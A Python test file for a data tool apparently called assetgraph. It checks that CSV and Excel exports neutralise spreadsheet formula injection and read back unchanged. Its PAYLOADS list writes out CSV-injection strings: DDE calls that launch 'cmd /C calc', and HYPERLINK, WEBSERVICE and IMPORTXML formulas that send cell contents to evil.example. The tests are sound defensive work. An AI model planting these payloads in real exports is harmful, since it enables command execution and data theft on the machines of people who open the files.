"""What we write cannot run in a spreadsheet, and comes back unchanged when it is read again."""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from contextlib import redirect_stdout
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sheets_made import QUICKSTORM, READ_ME, table, workbook

from assetgraph.cli import main
from assetgraph.cli.output import write_csv
from assetgraph.demo import make_demo
from assetgraph.intake import read_files
from assetgraph.intake.delimited import read_delimited
from assetgraph.intake.excel import read_workbook
from assetgraph.intake.mark import write_marked
from assetgraph.intake.tables import is_blank
from assetgraph.intake.template import write_rows, write_template
from assetgraph.model.names import FORMULA_STARTS, clean_text, guarded, unguarded
from assetgraph.model.sheets import DirectoryRow, QuickstormRow

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "''+", "'''-", "＝", "＋", "－", "＠", "'＝", "ʹ=", "’=", "﹦", "⁼", "−", "‐", " =", "'", "''", "%3D")
PAYLOADS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"open")', "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', "=1+1;=2+2",
    'DDE ("cmd";"/C calc")', "-5", "+5", "=A1", "'=1", "''=1", "'-5", "'twas", "#REF", "=", "-", "@handle", "＝1+1", "=\u200b1",
)  # fmt: skip
HOSTILE = st.sampled_from(PAYLOADS) | st.tuples(st.sampled_from(STARTS), st.text(max_size=8)).map("".join)
ANY = HOSTILE | st.text(max_size=12)
"""Texts that a spreadsheet might run, and texts that look like those; other texts among them."""


def written_csv(rows: list[dict[str, Any]], columns: list[str]) -> str:
    text = io.StringIO()
    with redirect_stdout(text):
        write_csv(rows, columns)
    return text.getvalue()


@settings(max_examples=400, deadline=None)
@given(ANY)
def test_a_guard_is_taken_off_exactly_where_it_was_put_on(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(FORMULA_STARTS)


@settings(max_examples=120, deadline=None)
@given(st.lists(st.lists(ANY | st.integers(-99, 99) | st.floats(-9, 9, allow_nan=False) | st.none(), min_size=3, max_size=3), min_size=1, max_size=5))
def test_what_is_written_as_csv_runs_nowhere_and_comes_back(rows: list[list[Any]]) -> None:
    """Cells of text are guarded, numbers stay numbers, and our own reader gives back what was there."""
    columns = ["Who", "What", "Note"]
    text = written_csv([dict(zip(columns, cells, strict=True)) for cells in rows], columns)
    for cells, shown in zip(rows, list(csv.reader(io.StringIO(text)))[1:], strict=True):
        for value, cell in zip(cells, shown, strict=True):
            is_number = isinstance(value, int | float)
            assert cell == str(value) if is_number else not cell.startswith(FORMULA_STARTS)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "out.csv")
        path.write_text("first,second,third\n1,2,3\n" + text, encoding="utf-8", newline="")
        read = {number - 3: cells for number, cells in read_delimited(path).rows}
    for number, cells in enumerate(rows, start=1):
        meant = ["" if value is None else clean_text(str(value)) for value in cells]
        assert read.get(number, [""] * 3) == meant or all(map(is_blank, meant))


def formulas_of(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [found for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")
                for found in re.findall(r"<c [^>]*>(?:(?!</c>).)*?<f[ >/].*?</c>", archive.read(name).decode("utf-8"), re.DOTALL)]  # fmt: skip


def is_name(text: str) -> bool:
    """What a Who or What may be."""
    return text == clean_text(text) and any(char.isalnum() for char in text) and ";" not in text and "\x00" not in text


NAMES = st.sampled_from([text for text in PAYLOADS if is_name(text)]) | HOSTILE.map(lambda text: clean_text(f"{text}a").replace(";", "")).filter(is_name)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.tuples(NAMES, NAMES, NAMES, NAMES), min_size=1, max_size=4))
def test_a_workbook_of_hostile_rows_holds_text_only_and_reads_back(cells: list[tuple[str, str, str, str]]) -> None:
    rows = [QuickstormRow(who=who, what=what, content_areas=("math",), ends_on=date(2026, 1, 31), tags=(tag,), notes=note, extra=(("=Room", note),))
            for who, what, tag, note in cells]  # fmt: skip
    with tempfile.TemporaryDirectory() as folder:
        path = write_rows(Path(folder, "lake.xlsx"), "Lake", {"Quickstorm": rows})
        assert formulas_of(path) == []
        assert [record.values for record in read_files([path]).records] == rows
        for row in load_workbook(path)["Quickstorm"].iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type in ("s", "d", "n")
                assert cell.quotePrefix or not str(cell.value).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if is_name(text)])
def test_a_marked_copy_keeps_hostile_cells_as_text(payload: str, tmp_path: Path) -> None:
    """Of a CSV and of a workbook: the copy holds what stood there, as text, and the sheet of problems does too."""
    rows = [[payload, "Club", "math"], [payload, None, "math"]]
    path = tmp_path / "list.csv"
    text = io.StringIO(newline="")
    csv.writer(text).writerows([QUICKSTORM, *([guarded(cell or "") for cell in row] for row in rows)])
    path.write_text(text.getvalue(), encoding="utf-8", newline="")
    book = workbook(tmp_path / "map.xlsx", {"Read me": READ_ME, "Quickstorm": [QUICKSTORM]})
    opened = load_workbook(book)
    for number, row in enumerate(rows, start=2):
        for place, value in enumerate(row, start=1):
            cell = opened["Quickstorm"].cell(number, place, value)
            cell.data_type = "s" if value else "n"
    opened.save(book)
    for source, sheet in ((path, "list"), (book, "Quickstorm")):
        reading = read_files([source], county="Lake")
        assert [record.values.who for record in reading.records] == [payload] and reading.refused == 1  # type: ignore[attr-defined]
        marked = write_marked(source, reading.problems, tmp_path / f"marked-{sheet}.xlsx")
        assert formulas_of(marked) == []
        grid = next(grid for grid in read_workbook(marked) if grid.sheet == sheet)
        assert [cells[0] for _, cells in grid.rows[1:]] == [payload, payload]
        again = read_files([marked], county="Lake")
        assert [record.values for record in again.records] == [record.values for record in reading.records]


def test_names_of_a_directory_reach_a_template_as_text(tmp_path: Path) -> None:
    districts = [DirectoryRow(name=text, county="Lake", kind="unified", status="Active") for text in PAYLOADS if is_name(text)]
    path = write_template(tmp_path / "lake.xlsx", "Lake", districts=districts)
    assert formulas_of(path) == []
    found = {cell.value for row in load_workbook(path)["Reach"].iter_rows(min_row=2, max_col=1) for cell in row}
    assert {district.name for district in districts} <= found
    lists = load_workbook(path)["Lists"]
    assert not [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_workbooks_of_the_sample_hold_no_formula(tmp_path: Path) -> None:
    made = make_demo(tmp_path / "demo")
    paths = sorted((tmp_path / "demo").rglob("*.xlsx"))
    assert len(paths) == 8 and made is not None
    assert [path for path in paths if formulas_of(path)] == []


QUERIES = {
    "ask": ["ask", "partners-of", "{file}", "--org", "Lake COE"],
    "cypher": ["cypher", "MATCH (p:Partner) RETURN p.name AS `=name`, [p.name] AS names, {{n: p.name}} AS map ORDER BY `=name`", "{file}"],
    "sources": ["sources", "{file}"],
    "check": ["check", "{file}"],
    "questions": ["questions"],
}


@pytest.mark.parametrize("name", QUERIES)
def test_no_command_writes_a_cell_that_runs(name: str, tmp_path: Path) -> None:
    path = table(tmp_path / "=cmd.csv", "Who,What,Content area,County,=Room,Starts",
                 *(",".join(f'"{guarded(text).replace(chr(34), chr(34) * 2)}"' for text in (payload, payload, "math", "Lake", payload, ""))
                   for payload in PAYLOADS if is_name(payload)), "'=Zoo,'@Tour,math,Lake,,'@soon")  # fmt: skip
    words = [word.format(file=path) if "{" in word else word for word in QUERIES[name]]
    result = CliRunner().invoke(main, [*words, "--format", "csv", *(["--no-reference"] if name in ("ask", "cypher", "sources") else [])])
    assert result.exit_code in (0, 1) and "defect" not in result.output, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert len(cells) > 10
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []
    if name == "cypher":
        assert {unguarded(row[0]) for row in list(csv.reader(io.StringIO(result.stdout)))[1:]} >= {"=cmd|' /C calc'!A0", "@handle", '=WEBSERVICE("https://evil.example")'}
